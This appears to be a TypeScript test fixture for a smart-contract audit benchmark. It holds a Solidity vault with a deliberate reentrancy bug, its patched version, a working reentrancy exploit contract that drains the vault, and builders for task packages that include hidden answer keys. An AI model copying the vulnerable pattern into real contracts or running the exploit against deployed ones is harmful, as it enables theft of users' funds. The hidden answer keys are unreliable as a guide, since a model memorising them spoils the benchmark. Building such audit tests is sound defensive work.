import type { z } from 'zod';
import { contentIdOf, type Hex } from '../../core/contentId.ts';
import type { TaskKind } from '../../core/taskKind.ts';
import type { auditHiddenSchema, Finding, Poc } from '../../tasks/kinds/audit.ts';
import type { CompilerSettings, Scenario } from '../../tasks/kinds/scenario.ts';
import { taskIdOf, type FileMap, type TaskPackage, type TaskSpec } from '../../tasks/taskSpec.ts';

/** Small tasks the tests of the checks share. */
export const SEED: Hex = `0x${'5e'.repeat(32)}`;

export const COMPILER: CompilerSettings = {
  solc: '0.8.37',
  evmVersion: 'cancun',
  optimizerRuns: 200,
};

/** Pays out before it writes down: reentrancy. */
export const VAULT = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Vault {
    mapping(address => uint256) public balanceOf;
    uint256 public total;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        total += msg.value;
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        balanceOf[msg.sender] = 0;
        unchecked { total -= amount; }
    }
}
`;

export const VAULT_PATCHED = VAULT.replace('        balanceOf[msg.sender] = 0;\n', '').replace(
  '        (bool ok, )',
  '        balanceOf[msg.sender] = 0;\n        (bool ok, )',
);

export const VAULT_SCENARIO: Scenario = {
  schema: 'poiw.scenario/v1',
  actors: [
    { name: 'owner', eth: '0' },
    { name: 'alice', eth: '~50000000000000000000' },
  ],
  attackerEth: '5000000000000000000',
  steps: [
    { deploy: 'vault', from: '$owner', contract: 'src/Vault.sol:Vault', args: [], value: '0' },
    {
      from: '$alice',
      to: '$vault',
      fn: 'deposit()',
      args: [],
      value: '~10000000000000000000',
    },
  ],
};

export const REENTRANCY: Poc = {
  source: `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "src/Vault.sol";

contract Exploit {
    Vault immutable vault;
    address immutable owner = msg.sender;
    constructor(Vault target) { vault = target; }
    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(owner).transfer(address(this).balance);
    }
    receive() external payable {
        if (address(vault).balance >= msg.value) vault.withdraw();
    }
}
`,
  contract: 'Exploit',
  constructorArgs: ['$vault'],
  constructorValue: '0',
  calls: [
    { from: '$attacker', to: '$poc', fn: 'attack()', args: [], value: '1000000000000000000' },
  ],
};

/** A package of one kind as an engine gets it. */
export function packageOf(
  kind: TaskKind,
  parts: {
    readonly settings: TaskSpec['settings'];
    readonly files: Readonly<Record<string, string>>;
    readonly hidden?: Readonly<Record<string, string>>;
  },
): TaskPackage {
  const files = fileMap(parts.files);
  const spec: TaskSpec = {
    schema: 'poiw.spec/v1',
    kind,
    title: 'test',
    description: 'test',
    settings: parts.settings,
    files: [...files].map(([path, bytes]) => ({
      path,
      content: contentIdOf(bytes),
      bytes: bytes.length,
    })),
  };
  const task = { id: taskIdOf(spec), spec, files };
  return parts.hidden === undefined ? task : { ...task, hidden: fileMap(parts.hidden) };
}

function fileMap(files: Readonly<Record<string, string>>): FileMap {
  return new Map(
    Object.entries(files).map(([path, text]) => [path, new TextEncoder().encode(text)]),
  );
}

/** The vault as an audit task with one known bug. */
export function vaultTask(changes: { readonly clean?: boolean } = {}): TaskPackage {
  const bug = {
    id: 'reenter',
    class: 'reentrancy',
    severity: 'critical',
    title: 'pays before it writes',
    contract: 'Vault',
    function: 'withdraw()',
    patch: { 'src/Vault.sol': 'hidden/patches/Vault.sol' },
  };
  const hidden: z.input<typeof auditHiddenSchema> = {
    schema: 'poiw.audit-hidden/v1',
    invariants: [
      {
        id: 'solvent',
        title: 'alice can be paid',
        severity: 'high',
        left: [{ eth: '$vault' }],
        op: '>=',
        right: [{ read: '$vault', fn: 'balanceOf(address)', args: ['$alice'] }],
      },
    ],
    benign: [
      {
        name: 'alice leaves',
        calls: [{ from: '$alice', to: '$vault', fn: 'withdraw()', args: [], value: '0' }],
      },
    ],
    bugs: changes.clean === true ? [] : [{ ...bug, class: 'reentrancy', severity: 'critical' }],
  };
  return packageOf('audit', {
    settings: {
      compiler: { ...COMPILER },
      scope: ['src/Vault.sol'],
      scenario: 'scenario.json',
    },
    files: {
      'scenario.json': JSON.stringify(VAULT_SCENARIO),
      'src/Vault.sol': changes.clean === true ? VAULT_PATCHED : VAULT,
    },
    hidden: {
      'hidden/audit.json': JSON.stringify(hidden),
      'hidden/patches/Vault.sol': VAULT_PATCHED,
    },
  });
}

/** A well-formed finding about the vault; without an exploit. */
export function vaultFinding(changes: Partial<Finding> = {}): Finding {
  return {
    id: 'f1',
    title: 'withdraw can be re-entered',
    class: 'reentrancy',
    severity: 'critical',
    confidence: 0.9,
    locations: [
      {
        file: 'src/Vault.sol',
        contract: 'Vault',
        function: 'withdraw',
        startLine: 13,
        endLine: 18,
        quote: '(bool ok, ) = msg.sender.call{value: amount}("");',
      },
    ],
    rootCause: 'the balance is written after the call',
    impact: 'everybody else loses his ETH',
    ...changes,
  };
}
